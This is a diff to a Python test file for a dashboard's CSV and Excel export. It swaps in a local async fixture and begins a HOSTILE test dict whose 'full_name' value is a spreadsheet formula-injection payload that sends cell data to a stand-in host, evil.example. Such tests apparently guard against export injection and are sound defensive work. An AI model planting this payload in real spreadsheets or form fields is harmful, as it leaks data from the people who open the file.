@@ -5,6 +5,8 @@ from __future__ import annotations
 import csv
 import io
 import zipfile
+from collections.abc import AsyncIterator
+from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
@@ -16,11 +18,18 @@ from tests.test_dashboard import (
     EMAIL,
     JOB_FORM,
     Dashboard,
-    dashboard,  # noqa: F401  (the fixture)
     login,
     login_admin,
+    open_dashboard,
     post_form,
 )
+
+
+@pytest.fixture
+async def dashboard(tmp_path: Path) -> AsyncIterator[Dashboard]:
+    async with open_dashboard(tmp_path) as opened:
+        yield opened
+
 
 HOSTILE = {
     "full_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
